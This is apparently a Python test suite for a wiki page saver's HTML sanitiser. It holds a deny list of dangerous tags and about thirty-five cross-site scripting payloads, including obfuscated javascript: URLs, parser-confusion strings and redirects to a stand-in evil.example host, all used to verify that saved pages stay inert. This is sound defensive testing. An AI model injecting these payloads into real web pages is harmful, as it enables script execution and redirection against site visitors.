"""A page of the wiki may be anybody's: what is kept of it acts by nothing and reaches for nothing."""

from __future__ import annotations

from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from irekae.report.wiki import Fetched, save_wiki

ADDRESS = "http://wiki.example/hiki/?Manual"
HARMLESS = {"href", "id", "name", "rel", "lang", "dir", "rowspan", "colspan", "scope", "start"}
FORBIDDEN = {
    "script", "style", "iframe", "frame", "object", "embed", "applet", "form", "input", "button", "textarea", "select",
    "base", "link", "svg", "math", "img", "video", "audio", "source", "template", "portal",
}  # fmt: skip


class Page(HTMLParser):
    """Every tag of a page with its attributes, as a browser's parser would meet them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def kept(tmp_path: Path, body: str) -> str:
    return save_wiki(lambda url: Fetched(url, body), ADDRESS, tmp_path, most=1).first.read_text("utf-8")


def active(text: str) -> Iterator[str]:
    """What in a saved page could act or reach out, but for the two meta lines that are ours."""
    for tag, attributes in Page(text).tags:
        if tag == "meta" and attributes in (
            {"charset": "utf-8"},
            {**attributes, "http-equiv": "Content-Security-Policy"},
        ):
            continue
        if tag in {*FORBIDDEN, "meta"} or set(attributes) - HARMLESS:
            yield f"{tag} {attributes}"
        if urlsplit(attributes.get("href") or "#").scheme not in ("", "http", "https", "mailto"):
            yield f"{tag} {attributes}"


WICKED = [
    "<script>alert(1)</script>",
    "<SCRIPT/x>alert(1)</SCRIPT\n>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<iframe src=http://evil.example/></iframe>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1) onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p style='background:url(http://evil.example/)' background=http://evil.example/>x</p>",
    "<style>@import 'http://evil.example/'</style>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#1;javascript&colon;alert(1)'>x</a>",
    "<a href='JaVaScRiPt&#58;alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='http://ok.example/' ping='http://evil.example/' target=_blank onclick=alert(1)>x</a>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<noscript><meta http-equiv=refresh content='0;url=http://evil.example/'></noscript>",
    "<base href='http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<form action=http://evil.example/><input name=password><button formaction=http://evil.example/>x</button></form>",
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<object data=http://evil.example/></object><embed src=http://evil.example/>",
    "<video poster=http://evil.example/ src=x><source srcset=http://evil.example/></video>",
    "<template><img src=x onerror=alert(1)></template>",
    "<title></title><script>alert(1)</script></title>",
    "<q cite='javascript:alert(1)'>x</q>",
    "<plaintext><script>alert(1)</script>",
]


# What one parser takes for text, for a comment or for a tag of no meaning, and another one does not.
MASKED = [
    "<img/src=x/onerror=alert(1)//",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>",
]


@pytest.mark.parametrize("body", [*WICKED, *MASKED])
def test_nothing_of_a_page_acts_or_reaches_out(tmp_path: Path, body: str) -> None:
    text = kept(tmp_path, f"<html><body>{body}<p>after</p></body></html>")
    assert list(active(text)) == []


def test_the_check_itself_finds_each_of_them() -> None:
    """Nothing is proved by a check that would pass the page as it came."""
    passed = [body for body in WICKED if not list(active(body))]
    assert passed == []


@given(
    st.lists(
        st.sampled_from([*WICKED, *MASKED, "<", ">", '"', "'", "<!--", "-->", "</p>", "<table>", "<pre>", "\0"]),
        max_size=6,
    )
)
def test_no_mixture_of_them_does(tmp_path_factory: pytest.TempPathFactory, parts: list[str]) -> None:
    text = kept(tmp_path_factory.getbasetemp() / "mixed", "".join(parts))
    assert list(active(text)) == []


def test_what_a_reader_needs_stays(tmp_path: Path) -> None:
    body = (
        "<title>手順 &amp; 表</title><h2 id=stop>止める</h2><a name=old>x</a><table><tr><td colspan=2>ika</table>"
        "<pre># grep tako /etc/* | sort &gt; out</pre><ul><li>一<li>二</ul><form><p>in a form</p></form>"
    )
    text = kept(tmp_path, body)
    for part in (
        "<title>手順 &amp; 表</title>",
        '<h2 id="stop">止める</h2>',
        'name="old"',
        '<td colspan="2">ika</td>',
        "<pre># grep tako /etc/* | sort &gt; out</pre>",
        "<li>二</li>",
        "<p>in a form</p>",
    ):
        assert part in text
